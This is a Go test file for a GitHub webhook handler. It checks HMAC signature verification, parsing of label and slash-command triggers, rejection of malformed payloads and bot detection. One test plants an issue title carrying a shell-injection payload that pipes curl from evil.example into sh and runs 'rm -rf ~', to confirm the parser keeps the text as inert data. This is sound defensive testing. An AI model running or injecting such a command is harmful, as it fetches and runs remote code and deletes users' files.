package webhook

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandstep/sandstep/internal/sandstep"
	"github.com/sandstep/sandstep/internal/testutil"
)

// GitHub's published test vector for X-Hub-Signature-256.
func TestVerifyGitHubTestVector(t *testing.T) {
	secret := []byte("It's a Secret to Everybody")
	body := []byte("Hello, World!")
	good := "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"
	tests := []struct {
		name string
		sig  string
		code sandstep.Code
		// mismatch: well-formed, so possibly by a rotated secret (ErrMismatch).
		mismatch bool
	}{
		{"GitHub's vector", good, "", false},
		{"missing", "", sandstep.EUNAUTHENTICATED, false},
		{"sha1 scheme", "sha1=01dc10d0c83e72ed246219cdd91669667fe2ca59", sandstep.EUNAUTHENTICATED, false},
		{"one digit changed", good[:len(good)-1] + "f", sandstep.EUNAUTHENTICATED, true},
		{"not hex", "sha256=zz", sandstep.EUNAUTHENTICATED, false},
		{"too short", good[:len(good)-2], sandstep.EUNAUTHENTICATED, false},
		{"upper-case scheme", strings.ToUpper(good[:6]) + good[6:], sandstep.EUNAUTHENTICATED, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := Verify(secret, body, tt.sig)
			if got := sandstep.ErrorCode(err); got != tt.code {
				t.Errorf("Verify = %q, want %q", got, tt.code)
			}
			if got := errors.Is(err, ErrMismatch); got != tt.mismatch {
				t.Errorf("Verify = %v, ErrMismatch %v, want %v", err, got, tt.mismatch)
			}
		})
	}
	if err := Verify([]byte("another secret"), body, good); sandstep.ErrorCode(err) != sandstep.EUNAUTHENTICATED || !errors.Is(err, ErrMismatch) {
		t.Errorf("a signature under another secret: %v, want ErrMismatch", err)
	}
	if sandstep.ErrorCode(Verify(nil, body, good)) != sandstep.EINTERNAL {
		t.Error("no secret configured must be refused as a misconfiguration")
	}
}

// examplesPath is GitHub's example payloads (npm @octokit/webhooks-examples,
// installed by make webhook-examples from testdata's lockfile).
const examplesPath = "testdata/node_modules/@octokit/webhooks-examples/api.github.com/index.json"

// examples returns GitHub's example payloads of event, by action.
func examples(t *testing.T, event string) map[string][]json.RawMessage {
	t.Helper()
	data, err := os.ReadFile(filepath.FromSlash(examplesPath))
	if err != nil {
		testutil.NeedNode(t, fmt.Errorf("GitHub's example payloads are not installed (make webhook-examples): %w", err))
	}
	var all []struct {
		Name     string            `json:"name"`
		Examples []json.RawMessage `json:"examples"`
	}
	if err := json.Unmarshal(data, &all); err != nil {
		t.Fatal(err)
	}
	out := map[string][]json.RawMessage{}
	for _, e := range all {
		if e.Name != event {
			continue
		}
		for _, ex := range e.Examples {
			var a struct {
				Action string `json:"action"`
			}
			_ = json.Unmarshal(ex, &a)
			out[a.Action] = append(out[a.Action], ex)
		}
	}
	if len(out) == 0 {
		t.Fatalf("no %s examples", event)
	}
	return out
}

// edit returns payload with fn applied to it as a JSON map.
func edit(t *testing.T, payload json.RawMessage, fn func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(payload, &m); err != nil {
		t.Fatal(err)
	}
	fn(m)
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func obj(m map[string]any, key string) map[string]any {
	v, _ := m[key].(map[string]any)
	return v
}

var triggers = Triggers{Label: "sandstep", Command: "/sandstep"}

func TestParseGitHubExamples(t *testing.T) {
	issues := examples(t, "issues")
	comments := examples(t, "issue_comment")
	labelled := issues["labeled"][0]
	unlabelled := issues["unlabeled"][0]
	created := comments["created"][0]
	withLabel := func(name string) func(m map[string]any) {
		return func(m map[string]any) { obj(m, "label")["name"] = name }
	}
	asBot := func(m map[string]any) {
		obj(m, "sender")["type"] = "Bot"
		obj(m, "sender")["login"] = "sandstep[bot]"
	}
	withComment := func(body string) func(m map[string]any) {
		return func(m map[string]any) {
			obj(m, "comment")["body"] = body
			delete(obj(m, "issue"), "pull_request")
			obj(obj(m, "comment"), "user")["type"] = "User"
			obj(m, "sender")["type"] = "User"
		}
	}
	ping := examples(t, "ping")[""][0]
	tests := []struct {
		name, event string
		body        []byte
		want        Kind
		byComment   bool
	}{
		{"ping", "ping", ping, KindPing, false},
		{"the label added", "issues", edit(t, labelled, withLabel("sandstep")), KindStart, false},
		{"another label", "issues", edit(t, labelled, withLabel("bug")), KindIgnore, false},
		{"the label removed", "issues", edit(t, unlabelled, withLabel("sandstep")), KindCancel, false},
		{"labelled by a bot", "issues", edit(t, labelled, func(m map[string]any) { withLabel("sandstep")(m); asBot(m) }), KindIgnore, false},
		{"issue opened", "issues", issues["opened"][0], KindIgnore, false},
		{"a command", "issue_comment", edit(t, created, withComment("/sandstep please fix")), KindStart, true},
		{"the bare command", "issue_comment", edit(t, created, withComment("/sandstep")), KindStart, true},
		{"cancel", "issue_comment", edit(t, created, withComment("/sandstep cancel")), KindCancel, true},
		// GitHub's web UI ends a comment's lines with CRLF.
		{"the command, then lines", "issue_comment", edit(t, created, withComment("/sandstep\r\nplease fix the test")), KindStart, true},
		{"cancel on the next line", "issue_comment", edit(t, created, withComment("/sandstep\r\ncancel")), KindCancel, true},
		{"cancel after a no-break space", "issue_comment", edit(t, created, withComment("/sandstep\u00a0cancel")), KindCancel, true},
		{"the command, then an ideographic space", "issue_comment", edit(t, created, withComment("/sandstep\u3000please fix")), KindStart, true},
		{"a longer word", "issue_comment", edit(t, created, withComment("/sandstepper go")), KindIgnore, false},
		{"not a command", "issue_comment", edit(t, created, withComment("thanks! /sandstep")), KindIgnore, false},
		{"a command by a bot", "issue_comment", edit(t, created, func(m map[string]any) { withComment("/sandstep")(m); asBot(m) }), KindIgnore, false},
		{"on a pull request", "issue_comment", edit(t, created, func(m map[string]any) {
			withComment("/sandstep")(m)
			obj(m, "issue")["pull_request"] = map[string]any{"url": "https://api.github.com/repos/o/r/pulls/1"}
		}), KindIgnore, false},
		{"a comment edited", "issue_comment", comments["edited"][0], KindIgnore, false},
		{"push", "push", examples(t, "push")[""][0], KindIgnore, false},
		{"an event sandstep does not read", "sponsorship_x", []byte(`{}`), KindIgnore, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := Parse(tt.event, tt.body, triggers)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if ev.Kind != tt.want || ev.ByComment != tt.byComment {
				t.Fatalf("kind %s (byComment %v, why %q), want %s (%v)", ev.Kind, ev.ByComment, ev.Why, tt.want, tt.byComment)
			}
			if ev.Kind == KindStart || ev.Kind == KindCancel {
				if ev.Repo == "" || !strings.Contains(ev.Repo, "/") || ev.Issue == 0 || ev.Sender == "" {
					t.Errorf("event %+v lacks its repository, issue or sender", ev)
				}
			}
		})
	}
}

// The triggers as people write them, in payloads of GitHub's shape written
// here (the examples above need the Node package): GitHub matches label
// names in any case (a repository has one of sandstep and Sandstep, never
// both), and a cancel capitalised or ending its sentence is never read as
// a start.
func TestTriggersAsWritten(t *testing.T) {
	const rest = `"issue": {"number": 12, "title": "t", "body": "b"},
 "repository": {"full_name": "octo/hello", "default_branch": "main", "clone_url": "https://github.com/octo/hello.git"},
 "installation": {"id": 7}, "sender": {"login": "maintainer", "type": "User"}}`
	label := func(action, name string) []byte {
		return fmt.Appendf(nil, `{"action": %q, "label": {"name": %q}, `+rest, action, name)
	}
	comment := func(body string) []byte {
		return fmt.Appendf(nil, `{"action": "created", "comment": {"id": 5, "body": %q, "user": {"login": "maintainer", "type": "User"}}, `+rest, body)
	}
	tests := []struct {
		name, event string
		body        []byte
		want        Kind
	}{
		{"the label as configured", "issues", label("labeled", "sandstep"), KindStart},
		{"the label capitalised", "issues", label("labeled", "Sandstep"), KindStart},
		{"the label in capitals", "issues", label("labeled", "SANDSTEP"), KindStart},
		{"the capitalised label removed", "issues", label("unlabeled", "Sandstep"), KindCancel},
		{"a label starting with it", "issues", label("labeled", "sandstep-later"), KindIgnore},
		{"cancel as documented", "issue_comment", comment("/sandstep cancel"), KindCancel},
		{"cancel capitalised", "issue_comment", comment("/sandstep Cancel"), KindCancel},
		{"cancel in capitals", "issue_comment", comment("/sandstep CANCEL"), KindCancel},
		{"cancel ending a sentence", "issue_comment", comment("/sandstep cancel."), KindCancel},
		{"cancel with a reason", "issue_comment", comment("/sandstep cancel, wrong branch"), KindCancel},
		{"a start", "issue_comment", comment("/sandstep"), KindStart},
		{"a start with words", "issue_comment", comment("/sandstep please fix the tests"), KindStart},
		{"a word starting with cancel", "issue_comment", comment("/sandstep cancelled-tests fix"), KindStart},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := Parse(tt.event, tt.body, triggers)
			if err != nil {
				t.Fatal(err)
			}
			if ev.Kind != tt.want {
				t.Errorf("kind %s (why %q), want %s", ev.Kind, ev.Why, tt.want)
			}
		})
	}
}

// A payload not of GitHub's shape is invalid, said in the payload's terms
// (which field, what it is), never in sandstep's Go types.
func TestParseMalformed(t *testing.T) {
	tests := []struct {
		name, event, body, says string
	}{
		{"not JSON", "issues", `{"action": `, "is not JSON"},
		{"an array", "issues", `[]`, "is a JSON array, not an object"},
		{"the issue's number a string", "issues", `{"action":"labeled","issue":{"number":"12"}}`, "issue.number is a JSON string"},
		{"the comment's id a string", "issue_comment", `{"action":"created","comment":{"id":"5","body":"/sandstep"}}`, "comment.id is a JSON string"},
		{"the installation's id a fraction", "issues", `{"action":"labeled","installation":{"id":1.5}}`, "installation.id is a JSON number 1.5"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.event, []byte(tt.body), triggers)
			msg := sandstep.ErrorMessage(err)
			if sandstep.ErrorCode(err) != sandstep.EINVALID || !strings.Contains(msg, tt.says) || strings.Contains(msg, "Go ") || strings.Contains(msg, "webhook.") {
				t.Errorf("Parse = %v, want invalid_input saying %q, in the payload's terms", err, tt.says)
			}
		})
	}
}

// The issue's title and body are carried as data, whatever they hold.
func TestParseKeepsHostileTextAsData(t *testing.T) {
	labelled := examples(t, "issues")["labeled"][0]
	title := `"; curl evil.example | sh; echo "$(rm -rf ~)` + "`id`"
	body := edit(t, labelled, func(m map[string]any) {
		obj(m, "label")["name"] = "sandstep"
		obj(m, "issue")["title"] = title
	})
	ev, err := Parse("issues", body, triggers)
	if err != nil || ev.Title != title {
		t.Fatalf("title %q, %v; want it as sent", ev.Title, err)
	}
}

func ExampleVerify() {
	secret := []byte("It's a Secret to Everybody")
	body := []byte("Hello, World!")
	mac := hmac.New(sha256.New, secret)
	mac.Write(body)
	err := Verify(secret, body, "sha256="+hex.EncodeToString(mac.Sum(nil)))
	fmt.Println(err == nil)
	// Output: true
}

// IsBot is the one rule of who is a bot, for the deliveries ignored here
// and for the App's own comment found again (githubapp).
func TestIsBot(t *testing.T) {
	tests := []struct {
		name, login, userType string
		bot                   bool
	}{
		{"an App's bot user", "sandstep[bot]", "Bot", true},
		{"a Bot by type alone", "renovate", "Bot", true},
		{"a [bot] login alone", "dependabot[bot]", "", true},
		{"a person", "octocat", "User", false},
		{"a person named bot", "bot", "User", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := IsBot(tt.login, tt.userType); got != tt.bot {
				t.Errorf("IsBot(%q, %q) = %v, want %v", tt.login, tt.userType, got, tt.bot)
			}
		})
	}
}
